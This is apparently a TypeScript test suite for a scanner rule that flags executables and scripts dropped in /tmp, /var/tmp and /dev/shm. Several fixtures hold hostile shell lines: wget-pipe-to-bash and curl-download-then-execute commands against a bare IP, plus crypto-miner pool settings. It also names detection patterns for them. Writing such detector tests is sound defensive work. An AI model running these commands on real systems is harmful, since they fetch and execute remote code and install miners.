import { testRule } from '../../../test/helpers/rule-tester';
import { fakeElf, fakeEntry, inventory } from '../../../test/helpers/file-entry';
import rule from './executable-in-temp';

const tmp = { role: 'tmp' as const };
const script = (path: string, head: string, over: Parameters<typeof fakeEntry>[0] extends infer T ? Partial<T> : never = {}) =>
  fakeEntry({ path, ...tmp, mode: 0o755, magic: 'script', shebang: head.split('\n')[0], head, size: head.length, ...over });

testRule(rule, {
  valid: [
    {
      name: 'sockets, FIFOs and plain data in /tmp',
      facts: {
        fileInventory: inventory(
          fakeEntry({ path: '/tmp/.X11-unix/X0', kind: 'socket', mode: 0o777, ...tmp, depth: 2, hidden: '.X11-unix' }),
          fakeEntry({ path: '/tmp/tmux-0/default', kind: 'socket', mode: 0o770, ...tmp, depth: 2 }),
          fakeEntry({ path: '/tmp/fifo', kind: 'fifo', mode: 0o600, ...tmp }),
          fakeEntry({ path: '/tmp/apt.log', ...tmp, magic: 'data' }),
          fakeEntry({ path: '/tmp/systemd-private-3f2a-nginx.service-Q1/tmp', kind: 'dir', mode: 0o1777, ...tmp, depth: 2 }),
        ),
      },
    },
    {
      name: 'a script deep inside an unpacked source tree',
      facts: { fileInventory: inventory(script('/tmp/src/pkg/tools/gen.sh', '#!/bin/sh\nexec make "$@"\n', { depth: 4 })) },
    },
    {
      name: "a project's own dot-directory script deep in /tmp",
      facts: { fileInventory: inventory(script('/tmp/ci-check/.ci/run', '#!/bin/sh\nnpm test\n', { depth: 3, hidden: '.ci' })) },
    },
    { name: 'ELF outside temporary directories', facts: { fileInventory: inventory(fakeElf({ path: '/usr/bin/rsync', role: 'bin' })) } },
    {
      name: 'empty file with the execute bit',
      facts: { fileInventory: inventory(fakeEntry({ path: '/tmp/x', ...tmp, mode: 0o755, size: 0 })) },
    },
    {
      name: 'known malware is left to files/known-malware-file',
      facts: { fileInventory: inventory(fakeElf({ path: '/tmp/kdevtmpfsi', ...tmp })) },
    },
  ],
  invalid: [
    {
      name: 'ELF dropped in /dev/shm',
      facts: { fileInventory: inventory(fakeElf({ path: '/dev/shm/sshd', ...tmp })) },
      expect: [{ severity: 'high', path: '/dev/shm/sshd', title: /ELF program in \/dev\/shm/, evidence: /sha256: a{64}/ }],
    },
    {
      name: 'ELF deep in a hidden directory of /var/tmp, without execute bit',
      facts: { fileInventory: inventory(fakeElf({ path: '/var/tmp/.../.x/a/b/run', ...tmp, mode: 0o644, depth: 5, hidden: '...' })) },
      expect: [{ severity: 'high', path: '/var/tmp/.../.x/a/b/run', evidence: /hidden directory: \.\.\./ }],
    },
    {
      name: 'miner installer script (seed 002: wget -qO- … | bash)',
      facts: { fileInventory: inventory(script('/tmp/m.sh', '#!/bin/bash\npkill -9 xmrig\nwget -qO- http://198.51.100.7/x.sh | bash\n')) },
      expect: [{ severity: 'high', path: '/tmp/m.sh', title: /Downloader script/, evidence: /matched: .*download-pipe-shell/ }],
    },
    {
      name: 'CI build script in a job directory of /var/tmp is low',
      facts: {
        fileInventory: inventory(
          script(
            '/var/tmp/ci-build-4711/build.sh',
            '#!/bin/bash\nset -euo pipefail\nmake -j4\nnpm ci\ndocker build -t registry.example.com/app:1 .\n',
            { depth: 2 },
          ),
        ),
      },
      expect: [{ severity: 'low', path: '/var/tmp/ci-build-4711/build.sh', title: /Script in \/var\/tmp/ }],
    },
    {
      name: 'the same job directory with a script that curls a payload from a bare address and runs it is high',
      facts: {
        fileInventory: inventory(
          script(
            '/var/tmp/ci-build-4711/build.sh',
            '#!/bin/bash\nmake -j4\ncurl -s http://198.51.100.7/b -o /var/tmp/b\nchmod +x /var/tmp/b\n/var/tmp/b\n',
            { depth: 2 },
          ),
        ),
      },
      expect: [
        {
          severity: 'high',
          path: '/var/tmp/ci-build-4711/build.sh',
          title: /Downloader script/,
          evidence: /matched: download-then-execute/,
        },
      ],
    },
    {
      name: 'the same job directory with a script carrying miner settings is high',
      facts: {
        fileInventory: inventory(
          script('/var/tmp/ci-build-4711/build.sh', '#!/bin/sh\n./run --donate-level 1 -o pool.example.net:3333\n', { depth: 2 }),
        ),
      },
      expect: [{ severity: 'high', path: '/var/tmp/ci-build-4711/build.sh', evidence: /matched: donate-level/ }],
    },
    {
      name: 'plain shell script at the top of /tmp',
      facts: { fileInventory: inventory(script('/tmp/cleanup.sh', '#!/bin/sh\nfind /var/log -name "*.gz" -delete\n', { mode: 0o644 })) },
      expect: [{ severity: 'medium', path: '/tmp/cleanup.sh', title: /Script in \/tmp/ }],
    },
    {
      name: 'native module inside node_modules unpacked in /tmp is low',
      facts: { fileInventory: inventory(fakeElf({ path: '/tmp/ci/node_modules/esbuild/bin/esbuild', ...tmp, depth: 5 })) },
      expect: [{ severity: 'low', path: '/tmp/ci/node_modules/esbuild/bin/esbuild', title: /node_modules tree/ }],
    },
    {
      name: 'script in a hidden directory at the top of /tmp',
      facts: { fileInventory: inventory(script('/tmp/.cache-x/a/b/start', '#!/bin/sh\nnohup ./a &\n', { depth: 4, hidden: '.cache-x' })) },
      expect: [{ severity: 'medium', path: '/tmp/.cache-x/a/b/start' }],
    },
    {
      name: 'packed payload with only the execute bit',
      facts: { fileInventory: inventory(fakeEntry({ path: '/var/tmp/upx', ...tmp, mode: 0o700, magic: 'data', size: 90000 })) },
      expect: [{ severity: 'low', path: '/var/tmp/upx' }],
    },
    {
      name: 'an unpacked tool tree becomes one finding with the worst severity',
      facts: {
        fileInventory: inventory(
          fakeElf({ path: '/tmp/kit/bin/a', ...tmp, depth: 3 }),
          fakeElf({ path: '/tmp/kit/bin/b', ...tmp, depth: 3 }),
          script('/tmp/kit/run.sh', '#!/bin/sh\n./bin/a\n', { depth: 2 }),
          script('/tmp/kit/stop.sh', '#!/bin/sh\nkill $(cat pid)\n', { depth: 2 }),
          fakeElf({ path: '/tmp/other', ...tmp }),
        ),
      },
      expect: [
        { severity: 'high', path: '/tmp/kit', title: /4 programs or scripts below \/tmp\/kit/ },
        { severity: 'high', path: '/tmp/other' },
      ],
    },
  ],
});
